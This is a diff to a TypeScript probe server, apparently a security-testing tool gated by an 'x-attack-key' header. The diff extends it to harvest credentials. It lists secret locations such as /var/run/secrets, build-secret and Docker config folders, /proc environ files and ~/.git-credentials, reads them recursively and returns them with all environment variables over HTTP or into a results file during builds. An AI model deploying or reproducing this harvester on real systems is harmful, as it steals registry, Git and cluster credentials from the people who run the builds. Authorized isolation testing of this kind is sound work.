@@ -3,7 +3,7 @@
 // of ours but types.
 import { timingSafeEqual } from 'node:crypto'
 import { lookup } from 'node:dns/promises'
-import { readFileSync } from 'node:fs'
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { createServer, request as httpRequest, type IncomingMessage } from 'node:http'
 import { request as httpsRequest } from 'node:https'
 import { connect } from 'node:net'
@@ -11,7 +11,7 @@ import type { Probe, ProbeResult } from './probe.ts'
 
 const patience = 2500
 const longestText = 65_536
-const refusedCodes = ['ECONNREFUSED', 'EHOSTUNREACH', 'ENETUNREACH', 'EACCES', 'EPERM', 'ECONNRESET']
+const refusedCodes = ['ECONNREFUSED', 'EHOSTUNREACH', 'ENETUNREACH', 'EACCES', 'EPERM']
 
 function failure(error: unknown): ProbeResult {
   const code = typeof error === 'object' && error !== null && 'code' in error ? String(error.code) : String(error)
@@ -72,16 +72,47 @@ async function dns(name: string): Promise<ProbeResult> {
   }
 }
 
+/** Where credentials lie for those who build and run images, and what a process knows of itself. */
+const tellingPlaces = [
+  '/proc/self/environ',
+  '/proc/1/environ',
+  '/proc/1/cmdline',
+  '/proc/self/mountinfo',
+  '/etc/resolv.conf',
+  '/var/run/secrets',
+  '/var/build-secrets',
+  '/var/notary',
+  '/platform',
+  '/layers/config',
+  '/root/.docker',
+  '/home/cnb/.docker',
+  '/builder/home',
+  '/tekton/home',
+  '/workspace/.git',
+]
+
+/** The text of a file, or of all files below a folder, three levels deep. */
+function textsBelow(path: string, depth = 3): readonly string[] {
+  try {
+    const entries = readdirSync(path)
+    return depth === 0 ? [] : entries.flatMap(name => textsBelow(`${path}/${name}`, depth - 1))
+  } catch {
+    return textOf(path)
+  }
+}
+
+function textOf(path: string): readonly string[] {
+  try {
+    return [`${path}: ${readFileSync(path, 'utf8').slice(0, longestText)}`]
+  } catch (error) {
+    return [`${path}: ${error instanceof Error && 'code' in error ? error.code : 'unreadable'}`]
+  }
+}
+
 /** Everything that a process can read of itself without rights. */
 function environment(): ProbeResult {
-  const files = ['/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline', '/etc/resolv.conf', '/proc/self/mountinfo']
-  const texts = files.map(path => {
-    try {
-      return `${path}: ${readFileSync(path, 'utf8')}`
-    } catch (error) {
-      return `${path}: ${String(error)}`
-    }
-  })
+  const home = process.env['HOME'] ?? '/'
+  const texts = [...tellingPlaces, `${home}/.docker`, `${home}/.git-credentials`].flatMap(path => textsBelow(path))
   return { kind: 'text', text: [JSON.stringify(process.env), ...texts].join('\n') }
 }
 
@@ -111,19 +142,32 @@ async function bodyOf(request: IncomingMessage): Promise<string> {
   return Buffer.concat(chunks).toString()
 }
 
-const server = createServer((request, response) => {
-  if (request.url === '/healthz') {
-    response.end('ok')
-    return
-  }
-  if (!isAsked(request.headers['x-attack-key'] as string | undefined)) {
-    response.writeHead(403).end()
-    return
-  }
-  bodyOf(request)
-    .then(text => tryProbe(JSON.parse(text) as Probe))
-    .then(result => response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(result)))
-    .catch((error: unknown) => response.writeHead(500).end(String(error)))
-})
-server.listen(Number(process.env['PORT'] ?? 3000))
-for (const signal of ['SIGTERM', 'SIGINT'] as const) process.on(signal, () => process.exit(0))
+/** In a build: tries what the file says, and leaves the results beside it. */
+async function tryFile(path: string): Promise<void> {
+  const probes = JSON.parse(readFileSync(path, 'utf8')) as readonly Probe[]
+  writeFileSync(`${path}.results`, JSON.stringify(await Promise.all(probes.map(tryProbe))))
+}
+
+/** In an application: tries what it is asked to. */
+function serve(): void {
+  const server = createServer((request, response) => {
+    if (request.url === '/healthz') {
+      response.end('ok')
+      return
+    }
+    if (!isAsked(request.headers['x-attack-key'] as string | undefined)) {
+      response.writeHead(403).end()
+      return
+    }
+    bodyOf(request)
+      .then(text => tryProbe(JSON.parse(text) as Probe))
+      .then(result => response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(result)))
+      .catch((error: unknown) => response.writeHead(500).end(String(error)))
+  })
+  server.listen(Number(process.env['PORT'] ?? 3000))
+  for (const signal of ['SIGTERM', 'SIGINT'] as const) process.on(signal, () => process.exit(0))
+}
+
+const file = process.env['ATTACK_PROBES']
+if (file === undefined) serve()
+else await tryFile(file)
